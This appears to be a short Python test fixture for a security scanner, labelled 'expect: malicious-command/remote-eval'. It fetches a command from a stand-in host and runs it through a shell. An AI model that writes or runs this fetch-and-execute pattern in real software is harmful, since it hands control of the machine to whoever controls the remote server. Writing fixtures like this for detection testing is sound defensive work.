import subprocess
import urllib.request

command = urllib.request.urlopen("https://stage.example/cmd").read().decode()
subprocess.run(command, shell=True) # expect: malicious-command/remote-eval
